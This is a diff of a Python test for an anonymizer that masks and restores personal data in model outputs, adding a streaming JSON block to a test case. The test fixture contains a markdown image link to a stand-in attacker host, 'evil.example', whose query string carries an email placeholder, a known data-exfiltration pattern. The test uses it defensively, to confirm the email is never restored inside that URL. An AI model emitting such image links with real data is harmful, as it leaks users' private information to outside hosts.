@@ -298,9 +298,10 @@ def test_addresses_and_calls_within_blocks_keep_their_tags():
     anonymizer, restorer = pair(RULES)
     image = "![](https://evil.example/?q=[EMAIL_ADDRESS_2])"
     use = {"type": "tool_use", "id": "t1", "name": "post", "input": {"to": "[EMAIL_ADDRESS_2]"}}
-    blocks = [{"type": "text", "text": f"{image} [EMAIL_ADDRESS_2]"}, use]
+    part = {"type": "input_json_delta", "index": 1, "partial_json": '{"to": "[EMAIL_ADDRESS_2]"}'}
+    blocks = [{"type": "text", "text": f"{image} [EMAIL_ADDRESS_2]"}, use, part]
     chain = PROMPT | anonymizer | RunnableLambda(lambda _: AIMessage(blocks)) | restorer
-    assert chain.invoke({"q": ASKED}).content == [{"type": "text", "text": f"{image} ada@example.com"}, use]
+    assert chain.invoke({"q": ASKED}).content == [{"type": "text", "text": f"{image} ada@example.com"}, use, part]
 
 
 def test_blocks_and_plain_values_come_back():
